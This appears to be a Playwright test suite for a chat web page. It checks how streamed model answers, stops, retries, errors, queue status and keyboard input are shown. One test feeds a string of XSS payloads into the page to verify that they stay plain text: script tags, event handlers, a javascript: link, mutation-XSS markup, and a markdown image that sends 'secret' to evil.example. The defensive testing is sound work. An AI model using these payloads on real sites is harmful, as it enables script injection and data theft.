"""Asking, reading, stopping, failing: what the page does with an answer."""

import pytest

from tests.browser.conftest import Chat, Open
from tests.browser.scripted import DONE, Gate, Script, delta, error, event, finish

sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed: pip install playwright")
expect = sync_api.expect
pytestmark = pytest.mark.browser


def test_an_answer_streams_in(chat: Chat, script: Script) -> None:
    first, second = Gate(), Gate()
    script.will(": \n\n", first, delta("Paris"), second, delta(" is the capital."), *finish())
    expect(chat.input).to_be_focused()
    chat.ask("What is the capital of France?")
    expect(chat.page.locator("article.question .text")).to_have_text("What is the capital of France?")
    expect(chat.input).to_have_value("")
    expect(chat.answers.last.locator(".wait")).to_be_visible()
    expect(chat.status).to_have_text("Reading your text…")
    first.set()
    expect(chat.answer).to_have_text("Paris")
    expect(chat.answers.last.locator(".wait")).to_be_hidden()
    expect(chat.button("Stop the answer")).to_be_visible()
    second.set()
    expect(chat.answer).to_have_text("Paris is the capital.")
    expect(chat.answers.last.locator(".figures")).to_have_text("412 tokens · 6.2 tok/s")
    expect(chat.button("Send")).to_be_visible()
    expect(chat.page.locator("#announcer")).to_have_text("Answer finished")
    assert script.requests == [
        {
            "messages": [{"role": "user", "content": "What is the capital of France?"}],
            "stream": True,
            "stream_options": {"include_usage": True},
        }
    ]


def test_the_next_question_carries_the_conversation(chat: Chat, script: Script) -> None:
    script.will_say("\n\n Hello!")
    script.will_say("Fine.", tokens=1, speed=None)
    chat.ask("Hi")
    expect(chat.answer).to_have_text("Hello!")
    expect(chat.button("Send")).to_be_visible()
    chat.ask("How are you?")
    expect(chat.answer).to_have_text("Fine.")
    expect(chat.answers.last.locator(".figures")).to_have_text("1 token")
    assert script.requests[1]["messages"] == [
        {"role": "user", "content": "Hi"},
        {"role": "assistant", "content": "\n\n Hello!"},
        {"role": "user", "content": "How are you?"},
    ]


@pytest.mark.parametrize("way", ["button", "Escape"])
def test_stop_keeps_the_text(chat: Chat, script: Script, way: str) -> None:
    never = Gate()
    script.will(delta("Once upon a time"), never, *finish())
    chat.ask("Tell me a story")
    expect(chat.answer).to_have_text("Once upon a time")
    if way == "button":
        chat.button("Stop the answer").click()
    else:
        chat.page.keyboard.press("Escape")
    expect(chat.answers.last.locator(".badge")).to_have_text("Stopped")
    expect(chat.answer).to_have_text("Once upon a time")
    expect(chat.button("Send")).to_be_visible()
    assert script.left.wait(5), "the server was not told"
    script.will_say("A whole story.")
    chat.button("Try again").click()
    expect(chat.answer).to_have_text("A whole story.")
    expect(chat.answers).to_have_count(1)
    assert script.requests[1] == script.requests[0]


def test_typing_goes_on_while_an_answer_streams(chat: Chat, script: Script) -> None:
    gate = Gate()
    script.will(delta("First"), gate, *finish())
    chat.ask("One")
    expect(chat.answer).to_have_text("First")
    chat.ask("Two")
    expect(chat.input).to_have_value("Two")
    expect(chat.status).to_have_text("An answer is being written. Stop it, or wait until it is done.")
    assert len(script.requests) == 1
    gate.set()
    expect(chat.button("Send")).to_be_visible()
    script.will_say("Second")
    chat.input.press("Enter")
    expect(chat.answer).to_have_text("Second")


def test_new_chat_and_the_way_back(chat: Chat, script: Script) -> None:
    never = Gate()
    script.will(delta("Half an answer"), never)
    chat.ask("Hello")
    expect(chat.answer).to_have_text("Half an answer")
    chat.button("New chat").click()
    expect(chat.page.locator("#empty")).to_be_visible()
    expect(chat.answers).to_have_count(0)
    expect(chat.button("Send")).to_be_visible()
    expect(chat.input).to_be_focused()
    assert script.left.wait(5), "the answer of the old chat goes on"
    chat.button("Back to the last chat").click()
    expect(chat.answer).to_have_text("Half an answer")
    expect(chat.answers.last.locator(".badge")).to_have_text("Stopped")
    chat.button("New chat").click()
    script.will_say("Something else.")
    chat.ask("New subject")
    expect(chat.answer).to_have_text("Something else.")
    assert script.requests[1]["messages"] == [{"role": "user", "content": "New subject"}]
    expect(chat.button("Back to the last chat")).to_be_hidden()


def test_an_example_is_a_question(chat: Chat, script: Script) -> None:
    script.will_say("Because of scattering.")
    example = chat.page.locator("#examples button").first
    text = example.inner_text()
    example.click()
    expect(chat.answer).to_have_text("Because of scattering.")
    assert script.requests[0]["messages"] == [{"role": "user", "content": text}]


def test_error_before_the_first_byte(chat: Chat, script: Script) -> None:
    script.will('{"error":{"message":"the engine died <b>twice</b>","type":"x","code":"engine_failed"}}', status=500)
    chat.ask("Hello")
    problem = chat.answers.last.get_by_role("alert")
    expect(problem).to_contain_text("The model stopped working in the middle.")
    expect(problem).to_contain_text("try once more in a moment")
    problem.get_by_text("Details").click()
    expect(problem.locator(".raw")).to_have_text("the engine died <b>twice</b>")
    expect(chat.page.locator("article.question .text")).to_have_text("Hello")
    script.will_say("Back again.")
    chat.button("Try again").click()
    expect(chat.answer).to_have_text("Back again.")
    expect(problem).to_have_count(0)
    expect(chat.input).to_be_focused()


def test_error_after_the_first_byte(chat: Chat, script: Script) -> None:
    script.will(delta("So far"), event(error("engine_failed", "the engine's process ended")))
    chat.ask("Hello")
    problem = chat.answers.last.get_by_role("alert")
    expect(problem).to_contain_text("The model stopped working in the middle.")
    expect(chat.answer).to_have_text("So far")
    script.will_say("Whole.")
    chat.button("Try again").click()
    expect(chat.answer).to_have_text("Whole.")
    assert script.requests[1] == script.requests[0]


def test_a_stream_that_ends_without_done_is_an_error(chat: Chat, script: Script) -> None:
    script.will(delta("Cut o"))
    chat.ask("Hello")
    expect(chat.answers.last.get_by_role("alert")).to_contain_text("The connection broke")
    expect(chat.answer).to_have_text("Cut o")


@pytest.mark.parametrize(
    ("status", "body", "said", "raw"),
    [
        (
            400,
            '{"error":{"message":"top_p is out of range","code":"new"}}',
            "cannot answer this",
            "top_p is out of range",
        ),
        (429, "slow down", "too much to do", "slow down"),
        (502, "", "went wrong on the server", "HTTP 502"),
    ],
)
def test_any_refusal_is_told(chat: Chat, script: Script, status: int, body: str, said: str, raw: str) -> None:
    script.will(body, status=status)
    chat.ask("Hello")
    expect(chat.answers.last.get_by_role("alert")).to_contain_text(said)
    expect(chat.answers.last.locator(".raw")).to_have_text(raw)


def test_a_chat_that_no_longer_fits_can_start_over(chat: Chat, script: Script) -> None:
    script.will('{"error":{"message":"5000 of 4096","code":"context_length_exceeded"}}', status=400)
    chat.ask("A long question")
    chat.button("New chat with this question").click()
    expect(chat.answers).to_have_count(0)
    expect(chat.input).to_have_value("A long question")


def test_a_failed_turn_is_left_out_of_the_next_one(chat: Chat, script: Script) -> None:
    script.will("", status=500)
    script.will_say("Yes.")
    chat.ask("Lost")
    expect(chat.answers.last.get_by_role("alert")).to_be_visible()
    chat.ask("Are you there?")
    expect(chat.answer).to_have_text("Yes.")
    assert script.requests[1]["messages"] == [{"role": "user", "content": "Are you there?"}]


def test_the_length_limit_is_named(chat: Chat, script: Script) -> None:
    script.will_say("A very long answ", reason="length")
    chat.ask("Go on")
    expect(chat.answers.last.locator(".badge")).to_have_text("Reached the length limit")
    expect(chat.answers.last.locator(".figures")).to_be_visible()


def test_queue_and_prefill_are_shown(chat: Chat, script: Script) -> None:
    queued, loading, prefill = Gate(), Gate(), Gate()
    script.will(
        ": queued 2 of 4\n\n",
        queued,
        ": loading\n\n",
        loading,
        ": prefill 120 of 300\n\n",
        prefill,
        delta("Hi"),
        *finish(),
    )
    chat.ask("Hello")
    expect(chat.status).to_have_text("Place 2 of 4 in the queue")
    queued.set()
    expect(chat.status).to_have_text("Loading the model…")
    loading.set()
    expect(chat.status).to_have_text("Reading your text: 40%")
    expect(chat.page.get_by_role("progressbar")).to_have_js_property("value", 0.4)
    prefill.set()
    expect(chat.answer).to_have_text("Hi")
    expect(chat.status).to_be_hidden()


def test_model_output_stays_text(chat: Chat, script: Script) -> None:
    attack = (
        "<script>alert(1)</script><img src=x onerror=alert(2)><svg onload=alert(3)>"
        "<a href='javascript:alert(4)'>x</a><math><mtext></form><form><mglyph><style></math><img src onerror=alert(5)>"
        '<form id="app"><input name="messages"></form>![](https://evil.example/?q=secret) {n} </script>'
    )
    script.will_say(attack)
    script.will(
        f'{{"error":{{"message":"{attack.replace(chr(34), "")}","code":"{attack.split("<img", 1)[0]}"}}}}', status=500
    )
    chat.ask(attack)
    expect(chat.answer).to_have_text(attack)
    expect(chat.page.locator("article.question .text")).to_have_text(attack)
    expect(chat.button("Send")).to_be_visible()
    chat.ask("again")
    expect(chat.answers.last.get_by_role("alert")).to_be_visible()
    inside = chat.page.locator("#messages").locator("script, img, a, form, input, math, style, iframe, svg[onload]")
    expect(inside).to_have_count(0)


def test_line_breaks_and_spaces_are_kept(chat: Chat, script: Script) -> None:
    script.will_say("def f():\n    return 1\n\nEnd")
    chat.ask("line one\nline two")
    expect(chat.answers.last.locator(".figures")).to_be_visible()
    assert chat.answer.inner_text() == "def f():\n    return 1\n\nEnd"
    assert chat.page.locator("article.question .text").inner_text() == "line one\nline two"


def test_enter_breaks_the_line_on_a_touch_screen(new_chat: Open, script: Script) -> None:
    chat = new_chat(viewport={"width": 360, "height": 740}, has_touch=True, is_mobile=True).open()
    script.will_say("Hello.")
    chat.input.tap()
    chat.page.keyboard.type("one")
    chat.input.press("Enter")
    chat.page.keyboard.type("two")
    expect(chat.input).to_have_value("one\ntwo")
    chat.button("Send").tap()
    expect(chat.answer).to_have_text("Hello.")


def test_shift_enter_breaks_the_line_and_the_box_grows_to_eight(chat: Chat) -> None:
    def height() -> float:
        box = chat.input.bounding_box()
        assert box
        return float(box["height"])

    one = two = height()
    for line in range(1, 12):
        chat.page.keyboard.type(f"line {line}")
        chat.input.press("Shift+Enter")
        if line == 1:
            two = height()
            assert one < two < 2 * one
    assert height() == pytest.approx(one + 7 * (two - one), abs=1)
    chat.input.fill("")
    assert height() == one


def test_nothing_is_sent_without_words(chat: Chat, script: Script) -> None:
    chat.ask("  \n ")
    chat.button("Send").dispatch_event("click")
    expect(chat.answers).to_have_count(0)
    assert script.requests == []


def test_enter_belongs_to_the_input_method(chat: Chat, script: Script) -> None:
    """Choosing characters with Enter sends nothing: while composing, and in Safari's order just after."""
    script.will_say("你好！")
    devtools = chat.page.context.new_cdp_session(chat.page)
    devtools.send("Input.imeSetComposition", {"text": "nihao", "selectionStart": 5, "selectionEnd": 5})
    # As an input method's Enter comes: a key, but no character.
    enter = {"type": "rawKeyDown", "key": "Enter", "code": "Enter", "windowsVirtualKeyCode": 13}
    devtools.send("Input.dispatchKeyEvent", enter)
    devtools.send("Input.insertText", {"text": "你好"})
    chat.input.dispatch_event("keydown", {"key": "Enter", "keyCode": 229, "bubbles": True, "cancelable": True})
    expect(chat.input).to_have_value("你好")
    expect(chat.answers).to_have_count(0)
    chat.input.press("Enter")
    expect(chat.answer).to_have_text("你好！")
    assert [request["messages"][-1]["content"] for request in script.requests] == ["你好"]


def test_a_stream_with_odd_edges_is_read_whole(chat: Chat, script: Script) -> None:
    text = "中文🙂字"
    raw = (delta(text[:2]) + delta(text[2:])).replace("\n", "\r\n").encode()
    gates = [Gate() for _ in raw]
    parts = [part for at, gate in enumerate(gates) for part in (raw[at : at + 1], gate)]
    for gate in gates:
        gate.set()
    script.will(*parts, ":keep\n\n", "event: message\nid: 7\nretry: 5\n", *finish()[:2], DONE)
    chat.ask("字")
    expect(chat.answers.last.locator(".figures")).to_be_visible()
    expect(chat.answer).to_have_text(text)
    expect(chat.answer).to_have_attribute("lang", "zh-CN")
